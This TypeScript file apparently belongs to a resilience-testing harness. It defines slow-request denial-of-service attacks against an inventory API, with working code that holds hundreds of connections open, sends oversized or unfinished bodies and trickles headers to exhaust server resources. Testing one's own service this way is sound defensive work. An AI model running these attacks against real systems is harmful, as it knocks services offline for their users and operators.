import type { Socket } from 'node:net';
import type { Attack, Target } from '../attack';
import { keepConnections, pause } from '../connections';
import { JSON_TYPE, rawRequest, withKey } from '../raw-request';

/** Sent at once of a slow body: 28 of them are more than all bodies together may take up. */
const BEGIN = ' '.repeat(4_800_000);

/** Between two pieces of a slow client, in ms. */
const PIECE_EVERY_MS = 1000;

interface Hoard {
  readonly name: string;
  readonly title: string;
  readonly connections: number;
  /** Sent at once. */
  readonly head: (target: Target) => Buffer;
  /** Sent again and again; nothing when absent. */
  readonly piece?: string;
}

/** Many connections, each of which holds something and hardly uses it. */
export const HOARDING: readonly Attack[] = (
  [
    {
      name: 'slow-bodies',
      title: '28 slow bodies of one key, 4.8 of 10 MB at once',
      connections: 28,
      head: ({ key }) =>
        Buffer.concat([
          unfinished('/api/v1/inventory/update', {
            ...withKey(key),
            ...JSON_TYPE,
            'Content-Length': '10000000',
          }),
          Buffer.from(BEGIN),
        ]),
      piece: ' '.repeat(100),
    },
    {
      name: 'slow-chunks',
      title: '28 slow bodies of one key in chunks, 4.8 MB at once',
      connections: 28,
      head: ({ key }) =>
        Buffer.concat([
          unfinished('/api/v1/inventory/update', {
            ...withKey(key),
            ...JSON_TYPE,
            'Transfer-Encoding': 'chunked',
          }),
          Buffer.from(`${BEGIN.length.toString(16)}\r\n${BEGIN}\r\n`),
        ]),
      piece: '1\r\n \r\n',
    },
    {
      name: 'idle-imports',
      title: '16 idle imports of one key',
      connections: 16,
      head: ({ key }) =>
        unfinished('/api/v1/inventory/import', {
          ...withKey(key),
          'Content-Type': 'text/csv',
          'Transfer-Encoding': 'chunked',
        }),
    },
    {
      name: 'silent',
      title: '500 connections that send nothing',
      connections: 500,
      head: () => Buffer.alloc(0),
    },
    {
      name: 'slow-headers',
      title: '500 connections with a head that does not end',
      connections: 500,
      head: () => Buffer.from('GET /livez HTTP/1.1\r\nHost: attacker.example\r\n'),
      piece: 'X-A: 1\r\n',
    },
  ] satisfies Hoard[]
).map(hoard);

/** A request whose body is still to come. */
function unfinished(path: string, headers: Readonly<Record<string, string>>): Buffer {
  return rawRequest('POST', path, headers);
}

function hoard({ name, title, connections, head, piece }: Hoard): Attack {
  return {
    name: `hold-${name}`,
    title,
    prepare: (target) => {
      const first = head(target);
      return (signal) =>
        keepConnections(
          target.url,
          connections,
          (socket) => {
            socket.resume().write(first);
            if (piece !== undefined) void trickle(socket, piece, signal);
          },
          signal,
        );
    },
  };
}

async function trickle(socket: Socket, piece: string, signal: AbortSignal): Promise<void> {
  while (!socket.destroyed && !signal.aborted) {
    socket.write(piece);
    await pause(PIECE_EVERY_MS, signal);
  }
}
